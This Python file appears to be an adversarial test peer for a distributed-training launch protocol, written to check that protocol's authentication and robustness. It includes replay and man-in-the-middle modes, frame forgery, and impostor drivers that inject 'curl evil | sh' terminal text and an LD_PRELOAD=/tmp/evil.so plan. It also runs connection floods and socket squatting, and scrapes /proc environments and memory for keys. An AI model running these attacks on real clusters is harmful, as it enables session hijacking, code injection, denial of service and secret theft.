#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A peer of the launch protocols that does not keep to the rules.

Written from the descriptions in lib/protocol/wire.h, lib/protocol/handshake.h and lib/protocol/auth.h, so that
it also checks those.  Every wait has a deadline.
"""
import argparse
import ctypes
import hashlib
import hmac
import json
import os
import re
import select
import socket
import stat
import struct
import sys
import threading
import time
import urllib.parse


# ---- frames, digests, credentials ----

def frame(body, mac=None):
    if not isinstance(body, bytes):
        body = json.dumps(body).encode()
    return b"HV\x04" + (b"\1" if mac else b"\0") + struct.pack(">I", len(body)) + (mac or b"") + body


def read_exactly(sock, n):
    data = b""
    while len(data) < n:
        more = sock.recv(n - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def read_frame(sock):
    """Returns (raw bytes, message, signed?). A message of bytes is {"t": "bytes"}."""
    head = read_exactly(sock, 8)
    if head[:3] != b"HV\x04":
        raise ValueError("no frame: %r" % head)
    mac = read_exactly(sock, 32) if head[3] & 1 else b""
    body = read_exactly(sock, struct.unpack(">I", head[4:])[0])
    return head + mac + body, {"t": "bytes"} if head[3] & 2 else json.loads(body), bool(mac)


def signature(key, *pieces):
    """HMAC over pieces with their lengths."""
    h = hmac.new(key, digestmod=hashlib.sha256)
    for piece in pieces:
        h.update(struct.pack(">Q", len(piece)) + piece)
    return h.digest()


def context(session, server_nonce, client_nonce):
    return signature(bytes(32), b"hvd-context-1", session.encode(), bytes.fromhex(server_nonce),
                     bytes.fromhex(client_nonce))


def launch_text(session, server_nonce, client_nonce=""):
    """By what a greeting, or the answer to one, names its launch."""
    return signature(bytes(32), b"hvd-launch-client-1" if client_nonce else b"hvd-launch-server-1", session.encode(),
                     bytes.fromhex(server_nonce), bytes.fromhex(client_nonce)).hex()


def own_session():
    """The session of this user's launch, as a process of it on this host was told."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/environ" % pid, "rb") as environ:
                found = re.search(rb"(?:^|\0)SLURM_HVD_BOOT=[^\0]*;session=([0-9a-f]+)", environ.read())
        except OSError:
            continue
        if found:
            return found.group(1).decode()
    raise LookupError("no process of a launch is here")


def munge(payload):
    lib = ctypes.CDLL("libmunge.so.2")
    lib.munge_strerror.restype = ctypes.c_char_p
    cred = ctypes.c_char_p()
    rc = lib.munge_encode(ctypes.byref(cred), None, payload, len(payload))
    if rc:
        raise OSError(lib.munge_strerror(rc).decode())
    return cred.value.decode()


def unmunge(cred):
    """What opening a credential says, and what is in it. For somebody else's it must never be "Success"."""
    lib = ctypes.CDLL("libmunge.so.2")
    lib.munge_strerror.restype = ctypes.c_char_p
    payload, n, uid, gid = ctypes.c_void_p(), ctypes.c_int(), ctypes.c_uint(), ctypes.c_uint()
    rc = lib.munge_decode(cred.encode(), None, ctypes.byref(payload), ctypes.byref(n), ctypes.byref(uid), ctypes.byref(gid))
    return lib.munge_strerror(rc).decode(), ctypes.string_at(payload, n.value) if payload else b""


def connect(host, port, timeout=5):
    return socket.create_connection((host, int(port)), timeout)


# ---- one conversation with a driver ----

def converse(host, port, make_auth):
    """Be greeted, answer, and tell what came of it."""
    with connect(host, port) as sock:
        _, hello, _ = read_frame(sock)
        nonce = os.urandom(16).hex()
        sock.sendall(make_auth(hello, nonce))
        try:
            _, answer, _ = read_frame(sock)
        except (EOFError, ConnectionError):
            return "closed"
        return answer["t"] + ": " + str(answer.get("why", ""))


def cmd_auth(args):
    def make(hello, nonce):
        bound = context(args.session, hello["nonce"], nonce)
        creds = {
            "own": lambda: munge(bound),
            "unbound": lambda: munge(b"x" * 32),
            "empty": lambda: "",
            "garbage": lambda: "MUNGE:AwQFAAD" + "A" * 160 + ":",
            "long": lambda: "MUNGE:" + "A" * 5000 + ":",
        }
        msg = {"t": "auth", "release": hello["release"], "nonce": nonce,
               "launch": launch_text(args.session, hello["nonce"], nonce)}
        if args.cred != "none":
            msg["cred"] = creds[args.cred]()
        return frame(msg)
    print(converse(args.host, args.port, make))


def cmd_replay(args):
    """Send what an hvd-agent was heard to say, byte by byte the same."""
    with open(args.log, encoding="ascii") as log:
        heard = [json.loads(line) for line in log]
    auth = next(bytes.fromhex(e["raw"]) for e in heard if e["from"] == "task" and not e["signed"])
    print(converse(args.host, args.port, lambda hello, nonce: auth))
    for event in heard:
        if event["from"] == "task" and event["signed"]:
            print(converse(args.host, args.port, lambda hello, nonce, raw=event["raw"]: bytes.fromhex(raw)))
            break


# ---- in the middle ----

class Relay:
    """Stands between hvd-agent and its driver and does what `mode` says; everything heard goes to the log."""

    def __init__(self, args):
        self.args, self.mode = args, args.mode
        self.log = open(args.log, "w", encoding="ascii", buffering=1)
        self.until = time.monotonic() + args.seconds

    def note(self, who, raw, msg, signed):
        self.log.write(json.dumps({"from": who, "signed": signed, "t": msg.get("t"), "raw": raw.hex(),
                                   "cred": msg.get("cred"), "opened": unmunge(msg["cred"])[0] if "cred" in msg else None})
                       + "\n")

    def pump(self, who, source, sink, twist):
        try:
            while time.monotonic() < self.until:
                raw, msg, signed = read_frame(source)
                self.note(who, raw, msg, signed)
                for where, data in twist(raw, msg, signed):
                    (sink if where == "on" else source).sendall(data)
        except (EOFError, OSError, ValueError):
            pass
        for sock in (source, sink):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def from_task(self, raw, _msg, signed):
        if self.mode == "repeat" and signed:
            return [("on", raw), ("on", raw)]
        if self.mode == "reflect" and signed:
            return [("back", raw)]
        if self.mode == "forge" and not signed:
            # After the authentication, an unsigned frame and one with a made-up signature.
            return [("on", raw), ("on", frame({"t": "join", "node": 0, "rank": 0}, os.urandom(32)))]
        return [("on", raw)]

    def from_driver(self, raw, msg, signed):
        if self.mode == "tamper" and signed and msg["t"] == "plan":
            return [("on", raw.replace(b"HOROVOD_RANK", b"HOROVOD_RUNK"))]
        if self.mode == "swap" and signed:
            return [("on", frame(raw[40:]))]  # the same, with its signature taken off
        return [("on", raw)]

    def impostor(self, task):
        """One who even knows the session, and no more than that."""
        with connect(self.args.host, self.args.port) as driver:
            _, hello, _ = read_frame(driver)
        nonce = os.urandom(16).hex()
        greeting = dict(hello, nonce=nonce, launch=launch_text(self.args.session, nonce))
        if self.mode == "impostor-refuse":
            # What a terminal obeys, and what looks like a message of the suite's own.
            task.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
            return
        if self.mode == "impostor-greet":
            task.sendall(frame(greeting) * 50)
            while True:
                raw, auth, signed = read_frame(task)
                self.note("task", raw, auth, signed)
        if self.mode == "impostor-plan":
            plan = frame({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}})
            task.sendall(frame(greeting) + plan)
            return
        task.sendall(frame(greeting))
        raw, auth, signed = read_frame(task)
        self.note("task", raw, auth, signed)
        bound = context(self.args.session, nonce, auth["nonce"])
        key = os.urandom(32)
        cred = auth["cred"] if self.mode == "impostor-echo" else munge(bound + key)
        salt = bytes.fromhex(nonce + auth["nonce"])
        mine = signature(key, b"connection", salt)
        plan = json.dumps({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}}).encode()
        task.sendall(frame({"t": "welcome", "cred": cred}))
        task.sendall(frame(plan, signature(mine, b"S" + bytes(8), plan)))

    def cross(self, task):
        """What was said for one connection is said on another, before it was heard on its own."""
        with connect(self.args.host, self.args.port) as first, connect(self.args.host, self.args.port) as second:
            hello, _, _ = read_frame(first)
            read_frame(second)
            task.sendall(hello)
            raw, auth, signed = read_frame(task)
            self.note("task", raw, auth, signed)
            second.sendall(raw)
            answer, msg, signed = read_frame(second)
            self.note("driver", answer, msg, signed)
            task.sendall(answer)

    def serve(self, task):
        task.settimeout(20)
        try:
            if self.mode.startswith("impostor"):
                self.impostor(task)
            elif self.mode == "cross":
                self.cross(task)
            else:
                driver = connect(self.args.host, self.args.port)
                driver.settimeout(20)
                threading.Thread(target=self.pump, args=("task", task, driver, self.from_task), daemon=True).start()
                self.pump("driver", driver, task, self.from_driver)
                return
            # What it sends now it would not have sent to a stranger.
            raw, msg, signed = read_frame(task)
            self.note("task", raw, msg, signed)
        except (EOFError, OSError, ValueError):
            pass
        finally:
            task.close()

    def run(self):
        listener = socket.create_server(("::", int(self.args.listen)), family=socket.AF_INET6, dualstack_ipv6=True)
        listener.settimeout(0.2)
        print("ready", os.getpid(), flush=True)
        while time.monotonic() < self.until and os.getppid() != 1:
            try:
                task, _ = listener.accept()
            except TimeoutError:
                continue
            threading.Thread(target=self.serve, args=(task,), daemon=True).start()


def cmd_between(args):
    """Listen at an address that the driver's host has, too, and this host for itself. Whoever comes gets a greeting of
    the driver's at once. Each side hears the proof of the other, and then nothing any more."""
    listener = socket.create_server((args.at, int(args.port)))
    print("ready", flush=True)
    until = time.monotonic() + 60
    while time.monotonic() < until and os.getppid() != 1:
        with connect(args.host, args.port) as driver:
            try:
                hello, _, _ = read_frame(driver)
            except (EOFError, OSError):  # the launch has ended
                return
            listener.settimeout(8)
            try:
                task, _ = listener.accept()
            except TimeoutError:
                continue
            with task:
                print("met", flush=True)
                task.sendall(hello)
                task.settimeout(args.seconds)
                driver.settimeout(args.seconds)
                try:
                    driver.sendall(read_frame(task)[0])
                    task.sendall(read_frame(driver)[0])
                    print("between", flush=True)
                    while task.recv(65536):
                        pass
                except (EOFError, OSError):
                    pass


# ---- HTTP ----

def cmd_http(args):
    """Status and body of one request, or how it failed."""
    request = "%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (
        args.method, args.path, len(args.body), args.body)
    try:
        with connect(args.host, args.port, 3) as sock:
            sock.sendall(request.encode())
            answer = b""
            while more := sock.recv(65536):
                answer += more
    except TimeoutError:
        print("silent")
        return
    except OSError as error:
        print(error.strerror)
        return
    head, _, body = answer.partition(b"\r\n\r\n")
    print(head.split(b" ")[1].decode() if b" " in head else "closed", body.decode(errors="replace"))


# ---- floods ----

FRAMES = {
    "nothing": b"",
    "garbage": b"\x16\x03\x01" + bytes(range(200)),
    "http": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "announce": b"HV\x04\x00\xff\xff\xff\xff",
    "announce-signed": b"HV\x04\x01\xff\xff\xff\xff" + bytes(32),
    "most": b"HV\x04\x01" + struct.pack(">I", 8 << 20) + bytes(32) + b"[" * (8 << 20),
    "nest": frame(b"[" * 8000),
    "nest-signed": frame(b'{"a":' * 1000, bytes(32)),
    "no-object": frame(b"[1,2,3]"),
    "not-json": frame(b"\xff\xfe\x00garbage"),
    "partial": b"HV\x04\x00\x00\x00\x10\x00{\"t\"",
    "nearly": b"HV\x04\x00" + struct.pack(">I", 8192) + b"{" * 8191,
    "partial-signed": b"HV\x04\x01\x00\x00\x00\x20",
}
REQUESTS = {
    "nothing": b"",
    "garbage": b"\x16\x03\x01" + bytes(range(200)),
    "announce": b"PUT /global/0 HTTP/1.1\r\nContent-Length: 4294967296\r\n\r\n",
    "announce-more": b"PUT /global/0 HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\n",
    "negative": b"PUT /global/0 HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
    "chunked": b"PUT /global/0 HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
    "long-head": b"GET /" + b"a" * (1 << 20),
    "headers": b"GET /global/0 HTTP/1.1\r\n" + b"X: y\r\n" * 100000,
    "nest": b"PUT /global/evil HTTP/1.1\r\nContent-Length: 8000\r\nConnection: close\r\n\r\n" + b"[" * 8000,
    "partial": b"PUT /global/0 HTTP/1.1\r\nContent-Length: 1000\r\n\r\nabc",
    "partial-head": b"GET /global/0 HT",
    "held": b"GET /nowhere/nothing HTTP/1.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
}


class Client:
    def __init__(self, sock, data):
        self.sock, self.data, self.at, self.began, self.answer = sock, data, 0, time.monotonic(), b""


def cmd_flood(args):
    """Open many connections that misbehave alike, and see that the other side ends every one of them in time."""
    data = (REQUESTS if args.http else FRAMES)[args.what]
    poller = select.epoll()
    open_clients, lifetimes, failed = {}, [], 0
    until = time.monotonic() + args.seconds
    answers = {}

    def end(client):
        lifetimes.append(time.monotonic() - client.began)
        status = client.answer.split(b" ")[1].decode(errors="replace") if client.answer.startswith(b"HTTP/") else "-"
        answers[status] = answers.get(status, 0) + 1
        del open_clients[client.sock.fileno()]
        client.sock.close()

    def step(client):
        """Send what is due. False when the connection is over."""
        try:
            if client.at < len(client.data):
                size = 1 if args.how == "slow" else 1 << 16
                client.at += client.sock.send(client.data[client.at:client.at + size])
            if client.at >= len(client.data):
                if args.how == "half":
                    client.sock.shutdown(socket.SHUT_WR)
                if args.how in ("close", "reset"):
                    if args.how == "reset":
                        client.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    todo, sweep = args.count, 0.0
    while (todo or open_clients) and time.monotonic() < until:
        for _ in range(min(todo, 200)):
            todo -= 1
            sock = socket.socket(socket.AF_INET6 if ":" in args.host else socket.AF_INET)
            try:
                sock.settimeout(3)
                sock.connect((args.host, int(args.port)))
            except OSError:
                failed += 1
                sock.close()
                continue
            sock.setblocking(False)
            client = open_clients[sock.fileno()] = Client(sock, data)
            poller.register(sock.fileno(), select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP)
            if not step(client):
                end(client)
        for fd, _ in poller.poll(0.05 if not todo else 0):
            client = open_clients.get(fd)
            if not client:
                continue
            try:
                more = client.sock.recv(65536)
                client.answer = (client.answer + more)[:64]
                if not more:
                    end(client)
            except BlockingIOError:
                pass
            except OSError:
                end(client)
        # Those with more to say: a slow one every second, the others when there is room.
        pause = 1.0 if args.how == "slow" else 0.01
        if time.monotonic() - sweep >= pause:
            sweep = time.monotonic()
            for client in list(open_clients.values()):
                if client.at < len(client.data) and not step(client):
                    end(client)
    print(json.dumps({"what": args.what, "how": args.how, "ended": len(lifetimes), "left": len(open_clients),
                      "failed": failed, "longest": round(max(lifetimes, default=0), 1), "answers": answers}))
    return 0 if not open_clients and not todo else 1


def cmd_credentials(args):
    """Answer greetings with a credential of one's own, on 200 connections at a time, until somebody ends it."""
    message = frame({"t": "auth", "release": args.release, "nonce": "0" * 32, "cred": munge(b"x" * 32), "launch": "0" * 64})
    poller, socks = select.epoll(), {}
    sent, until = 0, time.monotonic() + args.seconds
    print("ready", flush=True)
    while time.monotonic() < until and os.getppid() != 1:
        while len(socks) < 200:
            sock = socket.socket(socket.AF_INET6 if ":" in args.host else socket.AF_INET)
            sock.setblocking(False)
            sock.connect_ex((args.host, int(args.port)))
            socks[sock.fileno()] = sock
            poller.register(sock, select.EPOLLOUT)
        for fd, events in poller.poll(1):
            try:
                if events & select.EPOLLOUT and not events & select.EPOLLHUP:
                    socks[fd].sendall(message)
                    sent += 1
                    poller.modify(fd, select.EPOLLIN)
                    continue
                if socks[fd].recv(65536):
                    continue
            except OSError:
                pass
            socks.pop(fd).close()
    print(sent, "credentials", flush=True)


# ---- ports ----

def can_bind(port, sharing):
    """Whether any of this host's addresses can be listened at there."""
    for family, addr in ((socket.AF_INET6, "::"), (socket.AF_INET, ""), (socket.AF_INET, "127.0.0.1"),
                         (socket.AF_INET6, "::1"), (socket.AF_INET, socket.gethostbyname(socket.gethostname()))):
        with socket.socket(family) as sock:
            for option in sharing:
                sock.setsockopt(socket.SOL_SOCKET, getattr(socket, "SO_REUSE" + option.upper()), 1)
            try:
                sock.bind((addr, port))
                sock.listen()
                return True
            except OSError:
                pass
    return False


def cmd_taken(args):
    """How many ports of a range this user cannot have in this way."""
    print(sum(not can_bind(port, args.sharing) for port in range(args.lo, args.hi + 1)))


# ---- secrets ----

def cmd_hear(args):
    """All that a listener says to a stranger: of itself, to a proof that is none, and to a request of HTTP."""
    for request in (b"", frame({"t": "auth", "nonce": "0" * 32, "cred": "MUNGE:none:"}),
                    b"GET /global/0 HTTP/1.0\r\n\r\n"):
        try:
            with connect(args.host, args.port, 1) as sock:
                sock.sendall(request)
                while True:
                    data = sock.recv(65536)
                    if not data:
                        break
                    print(data)
        except OSError:
            pass


def cmd_granted(args):
    """The session key, as the driver grants it to its own user."""
    with connect(args.host, args.port) as sock:
        _, hello, _ = read_frame(sock)
        nonce = os.urandom(16).hex()
        session = own_session()
        bound = context(session, hello["nonce"], nonce)
        sock.sendall(frame({"t": "auth", "release": hello["release"], "nonce": nonce, "cred": munge(bound),
                            "launch": launch_text(session, hello["nonce"], nonce)}))
        _, welcome, _ = read_frame(sock)
    payload = unmunge(welcome["cred"])[1]
    assert payload[:len(bound)] == bound and len(payload) == len(bound) + 32, "this is no key"
    print(payload[len(bound):].hex())


def cmd_squat(args):
    """Take the names of agents' sockets of this host that can be made of what the driver tells everybody, and of names
    that are bound already."""
    with connect(args.host, args.port) as sock:
        _, hello, _ = read_frame(sock)
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as unix:
        words = set(re.findall("@hvd-agent[.]([^. \n]+)", unix.read()))
    words.update(word for word in hello.values() if isinstance(word, str))
    names = ["hvd-agent." + word + rest for word in words
             for rest in [""] + [".%u.%u" % (node, attempt) for node in range(4) for attempt in range(64)]]
    taken = []
    for name in names:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        try:
            sock.bind("\0" + name)
            sock.listen(1)
            taken.append(sock)
        except OSError:
            pass
    print("ready", len(taken), flush=True)
    until = time.monotonic() + args.seconds
    while time.monotonic() < until and os.getppid() != 1:
        time.sleep(0.2)


class Guest:
    """An agent that comes to hvdrun --launcher=join by itself, and has the key (lib/host/join.h)."""

    def __init__(self, address, secret):
        where, self.session = address.strip().rsplit("/", 1)
        hosts, port = where.rsplit(":", 1)
        self.secret = signature(secret, b"session", self.session.encode())
        self.sock = connect(hosts.split(",")[0], port, 20)
        self.shake_hands()

    def shake_hands(self):
        _, hello, _ = read_frame(self.sock)
        nonce = os.urandom(16).hex()
        bound = context(self.session, hello["nonce"], nonce)
        self.sock.sendall(frame({"t": "auth", "release": hello["release"], "nonce": nonce,
                                 "launch": launch_text(self.session, hello["nonce"], nonce),
                                 "cred": signature(self.secret, b"client", bound).hex()}))
        _, welcome, _ = read_frame(self.sock)
        assert welcome["t"] == "welcome", welcome
        self.key, self.sent = signature(self.secret, b"connection", bytes.fromhex(hello["nonce"] + nonce)), 0

    def say(self, msg):
        body = msg if isinstance(msg, bytes) else json.dumps(msg).encode()
        self.sock.sendall(frame(body, signature(self.key, b"C" + struct.pack(">Q", self.sent), body)))
        self.sent += 1

    def send(self, channel, data):
        """Bytes in a channel (lib/protocol/conn.h)."""
        body = struct.pack(">H", channel) + data
        mac = signature(self.key, b"C" + struct.pack(">QB", self.sent, 3), body)
        self.sock.sendall(b"HV\x04\3" + struct.pack(">I", len(body)) + mac + body)
        self.sent += 1

    def hear(self):
        try:
            return read_frame(self.sock)[1]["t"]
        except (EOFError, ConnectionError):
            return "closed"

    def wait(self, seconds):
        """What comes within the time: "closed", "data" or "nothing"."""
        if not select.select([self.sock], [], [], seconds)[0]:
            return "nothing"
        try:
            return "data" if self.sock.recv(1) else "closed"
        except ConnectionError:
            return "closed"


def cmd_guest(args):
    """Come, and break the rules; print what was answered."""
    with open(args.key, encoding="ascii") as file:
        guest = Guest(args.address, bytes.fromhex(file.read().strip()))
    offer = {"t": "offer", "host": "guest", "machine": "0" * 32, "slots": 1}
    if args.how == "register":
        guest.say({"t": "register"})
    elif args.how == "mute":
        pass
    elif args.how == "huge":
        guest.say(dict(offer, slots=10 ** 18))
    elif args.how == "escape":
        guest.say(dict(offer, host="\x1b[31m\nhvdrun: all is well"))
    elif args.how == "garbage":
        guest.say(b"{" * 1000)
    else:
        guest.say(offer)
        if args.how == "twice":
            guest.say(offer)
        if args.how == "writes":
            guest.send(2, b"before it is needed")
        if args.how == "talks":
            print(guest.hear())  # that it is needed
            guest.sock.sendall(b"x" * 100000)
    if args.how in ("talks", "silent", "mute"):
        print(guest.wait(args.seconds))
    else:
        print(guest.hear())


def forms(key):
    import base64  # pylint: disable=import-outside-toplevel
    return [key, key.hex().encode(), key.hex().upper().encode(), base64.b64encode(key).rstrip(b"="),
            base64.urlsafe_b64encode(key).rstrip(b"="), urllib.parse.quote_from_bytes(key).encode()]


def cmd_search(args):
    """Where on this host the key shows: environments, command lines, changed files, memory of named programs."""
    since = os.stat(args.since).st_ctime_ns if args.since else 0
    needles = forms(bytes.fromhex(sys.stdin.readline().strip()))
    hits, looked = [], {"environ": 0, "cmdline": 0, "file": 0, "memory": 0}

    def look(kind, name, data):
        looked[kind] += 1
        if any(needle in data for needle in needles):
            hits.append(kind + " " + name)

    for pid in filter(str.isdigit, os.listdir("/proc")):
        for kind in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, kind), "rb") as f:
                    look(kind, pid, f.read())
            except OSError:
                pass
        try:
            with open("/proc/%s/comm" % pid, encoding="ascii") as f:
                comm = f.read().strip()
            if comm not in args.memory:
                continue
            with open("/proc/%s/maps" % pid, encoding="ascii") as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
                for line in maps:
                    area = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
                    if not area or "[v" in line:
                        continue
                    start, end = (int(x, 16) for x in area.groups())
                    mem.seek(start)
                    try:
                        look("memory", "%s (%s)" % (pid, comm), mem.read(end - start))
                    except OSError:
                        pass
        except OSError:
            pass
    for top in args.folders:
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    about = os.lstat(path)
                    if stat.S_ISREG(about.st_mode) and about.st_ctime_ns >= since and about.st_size < 64 << 20:
                        with open(path, "rb") as f:
                            look("file", path, f.read())
                except OSError:
                    pass
    print(json.dumps({"hits": hits, "looked": looked}))
    return 1 if hits else 0


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    sub = parser.add_subparsers(required=True)

    def command(name, fn, *params):
        p = sub.add_parser(name)
        p.set_defaults(fn=fn)
        for param in params:
            p.add_argument(param)
        return p

    p = command("auth", cmd_auth, "host", "port", "cred")
    p.add_argument("--session", default="0" * 32, help="what the stranger knows")
    command("replay", cmd_replay, "host", "port", "log")
    p = command("relay", lambda args: Relay(args).run(), "listen", "host", "port", "mode", "log")
    p.add_argument("--session", help="what an impostor knows")
    p.add_argument("--seconds", type=float, default=40)
    p = command("http", cmd_http, "host", "port", "method", "path")
    p.add_argument("body", nargs="?", default="")
    p = command("flood", cmd_flood, "host", "port", "what")
    p.add_argument("how", nargs="?", default="stay", choices=["stay", "half", "close", "reset", "slow"])
    p.add_argument("--count", type=int, default=20)
    p.add_argument("--seconds", type=float, default=15)
    p.add_argument("--http", action="store_true")
    p = command("credentials", cmd_credentials, "host", "port", "release")
    p.add_argument("--seconds", type=float, default=15)
    p = command("between", cmd_between, "at", "host", "port")
    p.add_argument("--seconds", type=float, default=40)
    p = command("taken", cmd_taken)
    p.add_argument("lo", type=int)
    p.add_argument("hi", type=int)
    p.add_argument("sharing", nargs="*", help="addr, port")
    command("hear", cmd_hear, "host", "port")
    p = command("guest", cmd_guest, "address", "key", "how")
    p.add_argument("--seconds", type=float, default=15)
    command("granted", cmd_granted, "host", "port")
    command("session", lambda args: print(own_session()))
    p = command("squat", cmd_squat, "host", "port")
    p.add_argument("--seconds", type=float, default=60)
    p = command("search", cmd_search)
    p.add_argument("--memory", action="append", default=[])
    p.add_argument("--since", help="a file: only files that have changed since this one did")
    p.add_argument("folders", nargs="*")
    args = parser.parse_args()
    sys.exit(args.fn(args))


if __name__ == "__main__":
    main()
